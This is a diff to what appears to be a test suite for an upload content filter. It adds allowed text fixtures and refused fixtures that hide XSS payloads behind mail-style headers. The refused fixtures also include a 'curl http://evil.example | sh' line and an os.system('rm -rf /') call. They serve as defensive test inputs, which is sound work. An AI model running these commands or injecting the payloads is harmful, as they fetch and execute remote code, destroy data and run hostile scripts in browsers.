@@ -82,6 +82,13 @@ ALLOWED = {
     "mail.eml": (lambda: EML, "message/rfc822"),
     "directive.eml": (lambda: EML_WITH_HTML, "message/rfc822"),
     "markup.txt": (lambda: b"The letter asks us to use <p> tags in replies.\n", "text/plain"),
+    "terms.txt": (
+        lambda: (
+            b"Response time < a day; headcount < head office target.\n"
+            b"Contact: <linkedin-office@doc.example>, <form.desk@doc.example>\n"
+        ),
+        "text/plain",
+    ),
     "memo.docx": (
         docx_bytes,
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
@@ -95,6 +102,11 @@ REFUSED = {
     "table.txt": b"<TABLE><tr><td onmouseover=alert(1)>x</td></tr></TABLE>",
     "comment.txt": b"<!-- x -->\n<b>bold</b>",
     "heading.txt": b"<h1>Notice</h1><p>x</p>",
+    # Headers of a plain (not MIME) message do not make its markup a message's HTML part.
+    "masked.txt": b"From: a@b.example\r\nDate: Fri, 26 Jun 2026 09:00:00 -0400\r\n"
+    b"To: c@d.example\r\n\r\n<html><body><script>alert(1)</script></body></html>\r\n",
+    "masked-svg.eml": b"From: a@b.example\r\nDate: Fri, 26 Jun 2026 09:00:00 -0400\r\n"
+    b'To: c@d.example\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\r\n',
     "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
     "letter.pdf": b"#!/bin/sh\ncurl http://evil.example | sh\n",
     "report.pdf": b"import os\nos.system('rm -rf /')\n",
